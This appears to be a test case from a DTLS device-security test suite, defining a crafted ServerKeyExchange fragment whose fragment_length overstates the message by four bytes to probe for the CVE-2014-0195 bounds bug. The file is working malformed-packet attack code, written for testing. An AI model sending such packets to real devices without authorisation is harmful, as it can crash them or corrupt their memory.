import { writeMessage } from "../../../dtls/wire/handshake.ts";
import { deviceAttack } from "../../attack.ts";
import type { Framed, Framing } from "../../dtls/options.ts";
import { serveWith } from "./flight.ts";
import { availability, overDtls } from "./reference.ts";

export default deviceAttack({
  id: "U-16d",
  title: "a fragment of the gateway that goes beyond its message",
  transports: overDtls,
  defeats: "fragment-bounds-not-checked",
  severity: "high",
  reference: availability(["RFC 6347 §4.2.3"], [130, 787], ["CVE-2014-0195"]),
  run: (lab) => serveWith(lab, { framing: beyond }, []),
});

/** All of the message and four bytes more, in one fragment. */
function beyond({ name, msgType, messageSeq, body }: Framed): Framing | undefined {
  if (name !== "ServerKeyExchange") return undefined;
  const fragment = Buffer.concat([writeMessage(msgType, messageSeq, body), Uint8Array.of(1, 2, 3, 4)]);
  // fragment_length (RFC 6347 §4.2.2) says so; length does not.
  fragment.writeUIntBE(body.length + 4, 9, 3);
  return { fragments: [fragment] };
}
